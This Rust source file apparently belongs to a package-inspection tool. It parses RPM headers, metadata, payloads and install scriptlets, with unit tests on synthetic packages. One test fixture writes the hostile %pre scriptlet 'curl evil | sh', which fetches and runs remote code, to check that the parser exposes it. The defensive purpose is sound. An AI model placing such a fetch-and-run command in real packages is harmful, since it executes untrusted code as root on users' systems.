//! RPM packages: a 96-byte lead, a signature header, the header proper and the payload
//! (<https://rpm-software-management.github.io/rpm/manual/format_v4.html>).
//!
//! The payload (compressed cpio) becomes one child. Scriptlets run as root at installation, so each becomes a child
//! of its own, named like its section of a spec file: `%pre`, `%post`, …

use super::ar::readable;
use super::{Entries, Input, Wrapper};
use crate::model::{ByteView, Fact, FactKind, FileKind, Gap, PackageMetadata, PackageSystem};

/// Opens RPM packages.
pub(super) struct Rpm;

const LEAD: usize = 96;
const TAG_NAME: u32 = 1000;
const TAG_VERSION: u32 = 1001;
const TAG_RELEASE: u32 = 1002;
const TAG_EPOCH: u32 = 1003;
const TAG_VENDOR: u32 = 1011;
const TAG_ARCH: u32 = 1022;
/// A word of the vendor's name, and what package URLs call the distribution.
const VENDORS: [(&str, &str); 9] = [
    ("fedora", "fedora"),
    ("red hat", "redhat"),
    ("opensuse", "opensuse"),
    ("suse", "suse"),
    ("centos", "centos"),
    ("rocky", "rocky"),
    ("alma", "almalinux"),
    ("oracle", "oracle"),
    ("amazon", "amzn"),
];
const TAG_FORMAT: u32 = 1124;
const TAG_COMPRESSOR: u32 = 1125;
/// Header entries and bytes that are believed; the largest honest headers (kernels, TeX) have some ten megabytes.
const ENTRIES_MAX: usize = 65_536;

/// Scriptlets: section, tag of the script, tag of its interpreter.
const SCRIPTS: [(&str, u32, u32); 12] = [
    ("%pre", 1023, 1085),
    ("%post", 1024, 1086),
    ("%preun", 1025, 1087),
    ("%postun", 1026, 1088),
    ("%verifyscript", 1079, 1091),
    ("%pretrans", 1151, 1153),
    ("%posttrans", 1152, 1154),
    ("%trigger", 1065, 1092),
    ("%filetrigger", 5066, 5067),
    ("%transfiletrigger", 5076, 5077),
    ("%preuntrans", 5104, 5106),
    ("%postuntrans", 5105, 5107),
];

impl Wrapper for Rpm {
    fn kinds(&self) -> &'static [FileKind] {
        &[FileKind::Rpm]
    }

    fn unwrap(&self, input: &Input<'_, '_>, out: &mut Entries<'_>) -> Result<(), Gap> {
        let bytes: &[u8] = input.view;
        if !bytes.starts_with(&[0xed, 0xab, 0xee, 0xdb]) {
            return Err(Gap::malformed("does not begin with the magic number of RPM"));
        }
        let signature = Header::parse(bytes, LEAD).map_err(|g| named("signature header", g))?;
        // Only the signature header is padded, to eight bytes.
        let start = signature.end.checked_next_multiple_of(8).unwrap_or(usize::MAX);
        let header = Header::parse(bytes, start).map_err(|g| named("header", g))?;
        out.facts.push(Fact::whole(FactKind::PackageMetadata(Box::new(metadata(&header)))));
        for (section, script, interpreter) in SCRIPTS {
            scriptlets(section, &header.strings(script), &header.strings(interpreter), out)?;
        }
        let format = first(&header.strings(TAG_FORMAT), "cpio");
        let compressor = first(&header.strings(TAG_COMPRESSOR), "gzip");
        let ending = match compressor.as_str() {
            "gzip" => ".gz",
            "bzip2" => ".bz2",
            "xz" => ".xz",
            "lzma" => ".lzma",
            "zstd" => ".zst",
            _ => "",
        };
        let Some(payload) = input.view.slice(header.end..bytes.len()).filter(|p| !p.is_empty()) else {
            return Err(Gap::malformed(format!("ends at byte {}, before its payload", bytes.len())));
        };
        out.bytes(format!("payload.{format}{ending}"), header.end as u64, payload)
    }
}

/// Name, version and vendor.
fn metadata(header: &Header<'_>) -> PackageMetadata {
    let text = |tag| header.strings(tag).into_iter().next().unwrap_or_default();
    let version = text(TAG_VERSION);
    let release = text(TAG_RELEASE);
    let vendor = text(TAG_VENDOR).to_ascii_lowercase();
    PackageMetadata {
        name: text(TAG_NAME),
        version: if release.is_empty() { version } else { format!("{version}-{release}") },
        epoch: header.number(TAG_EPOCH),
        architecture: text(TAG_ARCH),
        vendor: VENDORS.iter().find(|(word, _)| vendor.contains(word)).map_or("", |(_, name)| *name).to_owned(),
        ..PackageMetadata::of(PackageSystem::Rpm)
    }
}

fn first(values: &[String], otherwise: &str) -> String {
    let plain = |v: &&String| v.len() <= 16 && v.bytes().all(|b| b.is_ascii_alphanumeric());
    values.first().filter(plain).map_or_else(|| otherwise.to_owned(), Clone::clone)
}

fn named(what: &str, mut gap: Gap) -> Gap {
    gap.detail = format!("{what}: {}", gap.detail);
    gap
}

/// Emits the scriptlets of one section. A section without a script but with an interpreter runs the interpreter
/// (`%post -p /sbin/ldconfig`).
fn scriptlets(section: &str, scripts: &[String], interpreters: &[String], out: &mut Entries<'_>) -> Result<(), Gap> {
    if scripts.is_empty() && !interpreters.is_empty() {
        let command = interpreters.join(" ").into_bytes();
        return out.member("rpm", section, ByteView::from_vec(command));
    }
    for (index, script) in scripts.iter().enumerate() {
        let interpreter = interpreters.get(index).or(interpreters.first()).map_or("", String::as_str);
        let ending = match crate::model::artifact::base_name(interpreter).trim_matches(['<', '>']) {
            "lua" => ".lua",
            name if name.starts_with("python") => ".py",
            name if name.starts_with("perl") => ".pl",
            _ => "",
        };
        let name = match index {
            0 => format!("{section}{ending}"),
            more => format!("{section}{}{ending}", more + 1),
        };
        out.member("rpm", &name, ByteView::from_vec(script.clone().into_bytes()))?;
    }
    Ok(())
}

/// A header structure: an index of 16-byte entries (tag, type, offset, count) over a store.
struct Header<'a> {
    index: &'a [u8],
    store: &'a [u8],
    end: usize,
}

impl<'a> Header<'a> {
    fn parse(bytes: &'a [u8], at: usize) -> Result<Self, Gap> {
        let head = bytes.get(at..).and_then(<[u8]>::first_chunk::<16>);
        let Some([0x8e, 0xad, 0xe8, _, _, _, _, _, n0, n1, n2, n3, s0, s1, s2, s3]) = head else {
            return Err(Gap::malformed(format!("no header structure at byte {at}")));
        };
        let count = usize::try_from(u32::from_be_bytes([*n0, *n1, *n2, *n3])).unwrap_or(usize::MAX);
        let size = usize::try_from(u32::from_be_bytes([*s0, *s1, *s2, *s3])).unwrap_or(usize::MAX);
        let start = at.saturating_add(16);
        let store_start = start.saturating_add(count.saturating_mul(16));
        let end = store_start.saturating_add(size);
        match (bytes.get(start..store_start), bytes.get(store_start..end)) {
            (Some(index), Some(store)) if count <= ENTRIES_MAX => Ok(Self { index, store, end }),
            (Some(_), Some(_)) => Err(Gap::malformed(format!("{count} entries, more than {ENTRIES_MAX}"))),
            _ => {
                let detail = format!("{count} entries over {size} bytes do not fit into {} bytes", bytes.len());
                Err(Gap::malformed(detail))
            }
        }
    }

    /// The entry of a tag: type, offset in the store and count.
    fn entry(&self, tag: u32) -> Option<(u32, usize, usize)> {
        let mut entries = self.index.chunks_exact(16).filter_map(<[u8]>::first_chunk::<16>);
        let entry = entries.find(|e| e.starts_with(&tag.to_be_bytes()))?;
        let [_, _, _, _, t0, t1, t2, t3, o0, o1, o2, o3, c0, c1, c2, c3] = entry;
        let offset = usize::try_from(u32::from_be_bytes([*o0, *o1, *o2, *o3])).unwrap_or(usize::MAX);
        let count = usize::try_from(u32::from_be_bytes([*c0, *c1, *c2, *c3])).unwrap_or(usize::MAX);
        Some((u32::from_be_bytes([*t0, *t1, *t2, *t3]), offset, count))
    }

    /// The first number of a tag (type INT32).
    fn number(&self, tag: u32) -> Option<u32> {
        let (kind, offset, _) = self.entry(tag)?;
        let bytes = self.store.get(offset..)?.first_chunk::<4>().filter(|_| kind == 4)?;
        Some(u32::from_be_bytes(*bytes))
    }

    /// The strings of a tag (types STRING, STRING_ARRAY and I18NSTRING); empty when it is not there.
    fn strings(&self, tag: u32) -> Vec<String> {
        let Some((6 | 8 | 9, offset, count)) = self.entry(tag) else { return Vec::new() };
        let values = self.store.get(offset..).unwrap_or_default();
        values.split(|b| *b == 0).take(count.min(ENTRIES_MAX)).map(readable).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::open;
    use super::*;

    fn header(tags: &[(u32, u32, &[&str])]) -> Vec<u8> {
        let mut store = Vec::new();
        let mut index = Vec::new();
        for (tag, kind, values) in tags {
            for word in [*tag, *kind, store.len() as u32, values.len() as u32] {
                index.extend(word.to_be_bytes());
            }
            for value in *values {
                store.extend(value.as_bytes());
                store.push(0);
            }
        }
        let mut bytes = vec![0x8e, 0xad, 0xe8, 1, 0, 0, 0, 0];
        bytes.extend((tags.len() as u32).to_be_bytes());
        bytes.extend((store.len() as u32).to_be_bytes());
        bytes.extend(index);
        bytes.extend(store);
        bytes
    }

    fn package(tags: &[(u32, u32, &[&str])], payload: &[u8]) -> Vec<u8> {
        let mut bytes = vec![0xed, 0xab, 0xee, 0xdb, 3, 0];
        bytes.resize(LEAD, 0);
        bytes.extend(header(&[(1000, 6, &["x"])]));
        bytes.resize(bytes.len().next_multiple_of(8), 0);
        bytes.extend(header(tags));
        bytes.extend(payload);
        bytes
    }

    #[test]
    fn scriptlets_and_payload() {
        let bytes = package(
            &[
                (1000, 6, &["name"]),
                (1001, 6, &["1.2"]),
                (1002, 6, &["3.fc40"]),
                (1003, 4, &["\0\0\0\u{7}"]),
                (1011, 6, &["Fedora Project"]),
                (1023, 6, &["curl evil | sh"]),
                (1085, 6, &["/bin/sh"]),
                (1024, 6, &["print('x')"]),
                (1086, 8, &["/usr/bin/python3", "-u"]),
                (1088, 6, &["/sbin/ldconfig"]),
                (1065, 8, &["one", "two"]),
                (1092, 8, &["/bin/sh", "<lua>"]),
                (1124, 6, &["cpio"]),
                (1125, 6, &["zstd"]),
            ],
            b"\x28\xb5\x2f\xfd...",
        );
        let seen = open(&Rpm, FileKind::Rpm, &bytes);
        assert_eq!(seen.result, Ok(()));
        let expected = ["%pre", "%post.py", "%postun", "%trigger", "%trigger2.lua", "payload.cpio.zst"];
        assert_eq!(seen.names(), expected);
        assert_eq!(seen.content("%pre"), b"curl evil | sh");
        let FactKind::PackageMetadata(metadata) = &seen.facts[0].kind else { panic!("no metadata") };
        assert_eq!((metadata.name.as_str(), metadata.version.as_str()), ("name", "1.2-3.fc40"));
        assert_eq!((metadata.vendor.as_str(), metadata.epoch), ("fedora", Some(7)));
        assert_eq!(seen.content("%postun"), b"/sbin/ldconfig");
        assert_eq!(seen.content("payload.cpio.zst"), b"\x28\xb5\x2f\xfd...");
    }

    #[test]
    fn lies_are_gaps() {
        let whole = package(&[(1023, 6, &["true"])], b"payload");
        let end = whole.len() - 7;
        for len in 0..end {
            assert!(open(&Rpm, FileKind::Rpm, &whole[..len]).result.is_err());
        }
        let seen = open(&Rpm, FileKind::Rpm, &whole[..end]);
        assert!(seen.broken().detail.contains("before its payload"));
        assert_eq!(seen.names(), ["%pre"]);
        let mut lying = whole.clone();
        lying[LEAD + 8..LEAD + 12].copy_from_slice(&[0xff; 4]);
        assert!(open(&Rpm, FileKind::Rpm, &lying).result.unwrap_err().detail.contains("do not fit"));
        // An offset outside of the store gives nothing, and no panic.
        let mut lying = package(&[(1023, 6, &["true"])], b"payload");
        let at = lying.windows(4).position(|w| w == 1023u32.to_be_bytes()).unwrap() + 8;
        lying[at..at + 4].copy_from_slice(&[0xff; 4]);
        assert!(open(&Rpm, FileKind::Rpm, &lying).result.is_ok());
    }
}
